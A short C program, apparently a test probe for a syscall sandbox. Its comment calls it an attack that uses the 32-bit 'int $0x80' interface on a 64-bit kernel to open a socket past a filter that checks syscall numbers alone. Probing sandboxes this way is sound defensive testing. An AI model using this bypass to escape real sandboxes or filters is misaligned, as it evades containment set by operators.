/* The attack: use the 32-bit interface of a 64-bit kernel, whose other numbers a filter of numbers alone lets pass. */
#include <stdio.h>

int main(void) {
    char line[64];
    if (!fgets(line, sizeof line, stdin)) return 1;
    long result = 359; /* socket, on i386 */
    __asm__ volatile("int $0x80" : "+a"(result) : "b"(2), "c"(1), "d"(0) : "memory");
    printf("lived %ld\n", result);
    fflush(stdout);
    return 0;
}
